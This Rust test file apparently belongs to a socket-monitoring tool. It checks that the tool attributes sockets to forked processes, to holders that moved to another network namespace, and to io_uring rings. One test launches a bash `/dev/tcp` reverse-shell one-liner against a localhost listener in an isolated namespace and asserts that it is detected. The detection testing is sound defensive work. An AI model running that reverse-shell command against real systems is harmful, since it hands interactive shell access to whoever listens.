//! Sockets with several holders, holders outside the socket's namespace, and the classic
//! `bash -i >& /dev/tcp/…` shell, which osquery's one-owner-per-socket map gets wrong, and a
//! socket held only by an io_uring.

use crate::util::{Netns, PRELUDE, Running, prerequisites, python_in, scan_document};

#[test]
fn a_socket_inherited_by_fork_has_both_holders() {
    if !prerequisites(&["ip", "python3"]) {
        return;
    }
    let netns = Netns::new();
    let program = format!(
        "{PRELUDE}
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
c = socket.create_connection(l.getsockname())
child = os.fork()
if child == 0:
    die_with_parent()
    time.sleep(1000)
print(json.dumps({{'parent': os.getpid(), 'child': child, 'fd': c.fileno(), 'inode': os.fstat(c.fileno()).st_ino}}), flush=True)
sys.stdin.read()
os.kill(child, signal.SIGKILL)
"
    );
    let (_running, facts) = python_in(&netns, &program);
    let doc = scan_document();
    let inode = facts["inode"].as_u64().unwrap();
    let fd = facts["fd"].as_i64().unwrap() as i32;
    let mut expected = vec![
        (facts["parent"].as_i64().unwrap() as i32, fd),
        (facts["child"].as_i64().unwrap() as i32, fd),
    ];
    expected.sort();
    assert_eq!(doc.holders(inode), expected);
    assert_eq!(doc.socket(inode).key.netns, netns.inode());
}

#[test]
fn a_holder_that_moved_to_another_namespace_still_resolves_its_socket() {
    if !prerequisites(&["ip", "python3"]) {
        return;
    }
    let home = Netns::new();
    let elsewhere = Netns::new();
    let program = format!(
        "{PRELUDE}
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
fd = os.open('/run/netns/{}', os.O_RDONLY)
assert libc.setns(fd, 0x40000000) == 0, ctypes.get_errno()
print(json.dumps({{'pid': os.getpid(), 'fd': l.fileno(), 'inode': os.fstat(l.fileno()).st_ino}}), flush=True)
sys.stdin.read()
",
        elsewhere.name
    );
    let (_running, facts) = python_in(&home, &program);
    let doc = scan_document();
    let pid = facts["pid"].as_i64().unwrap() as i32;
    let socket = doc.socket(facts["inode"].as_u64().unwrap());
    assert_eq!(doc.process(pid).netns, Some(elsewhere.inode()), "the holder moved");
    assert_eq!(socket.key.netns, home.inode(), "the socket stays in the table of its namespace");
    assert_eq!(socket.source, sockwatch::model::TableSource::SockDiag);
    assert_eq!(doc.holders(socket.key.inode), vec![(pid, facts["fd"].as_i64().unwrap() as i32)]);
}

#[test]
fn bash_dev_tcp_shell_holds_the_socket_on_0_1_2_and_255() {
    if !prerequisites(&["ip", "python3", "bash"]) {
        return;
    }
    let netns = Netns::new();
    let listener = format!(
        "{PRELUDE}
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
print(json.dumps({{'port': l.getsockname()[1]}}), flush=True)
a, _ = l.accept()
sys.stdin.read()
"
    );
    let (_listener, facts) = python_in(&netns, &listener);
    let port = facts["port"].as_u64().unwrap();
    let mut shell = netns.command("bash");
    shell
        .args(["-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stderr(std::process::Stdio::null());
    let shell = Running::spawn(shell);

    // The shell connects asynchronously; poll a few scans for it.
    let mut last = Vec::new();
    for _ in 0..50 {
        let doc = scan_document();
        let socket = doc.snapshot.sockets.iter().find(|s| {
            s.key.netns == netns.inode()
                && s.remote.is_some_and(|r| u64::from(r.port) == port)
                && s.holders.iter().any(|h| h.proc.pid == shell.pid())
        });
        if let Some(socket) = socket {
            last =
                socket.holders.iter().filter(|h| h.proc.pid == shell.pid()).map(|h| h.fd).collect();
            if last.len() == 4 {
                assert_eq!(doc.direction(socket.key.inode), sockwatch::model::Direction::Outbound);
                let stdio: Vec<_> = doc
                    .stdio_links()
                    .into_iter()
                    .filter(|l| l.proc.pid == shell.pid() && l.socket == socket.key)
                    .map(|l| (l.fd, l.via))
                    .collect();
                use sockwatch::model::Via::Direct;
                assert_eq!(stdio, vec![(0, Direct), (1, Direct), (2, Direct)]);
                break;
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert_eq!(last, vec![0, 1, 2, 255]);
}

#[test]
fn a_socket_registered_in_an_io_uring_and_closed_is_held_by_the_ring() {
    if !prerequisites(&["ip", "python3"]) {
        return;
    }
    let netns = Netns::new();
    // Registered in slot 3 of a sparse table; the process's own fd is closed.
    let program = format!(
        "{PRELUDE}
libc.syscall.restype = ctypes.c_long
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
c = socket.create_connection(l.getsockname())
a, _ = l.accept()
inode = os.fstat(c.fileno()).st_ino
ring = libc.syscall(425, 4, ctypes.create_string_buffer(120))
assert ring >= 0, ctypes.get_errno()
files = (ctypes.c_int * 4)(-1, -1, -1, c.fileno())
assert libc.syscall(427, ring, 2, files, 4) == 0, ctypes.get_errno()
c.close()
print(json.dumps({{'pid': os.getpid(), 'ring': ring, 'inode': inode, 'peer': os.fstat(a.fileno()).st_ino}}), flush=True)
sys.stdin.read()
"
    );
    let (_running, facts) = python_in(&netns, &program);
    let doc = scan_document();
    let pid = facts["pid"].as_i64().unwrap() as i32;
    let ring = facts["ring"].as_i64().unwrap() as i32;
    let socket = doc.socket(facts["inode"].as_u64().unwrap());
    assert_eq!(socket.key.netns, netns.inode());
    let holders: Vec<_> =
        socket.holders.iter().map(|h| (h.proc.pid, h.fd, h.io_uring_slot)).collect();
    assert_eq!(holders, vec![(pid, ring, Some(3))], "held through the ring, in its slot");
    let peer = doc.socket(facts["peer"].as_u64().unwrap());
    assert!(peer.holders.iter().all(|h| h.io_uring_slot.is_none()), "the peer is an fd");
    assert!(doc.snapshot.coverage.io_uring_sockets >= 1);
}
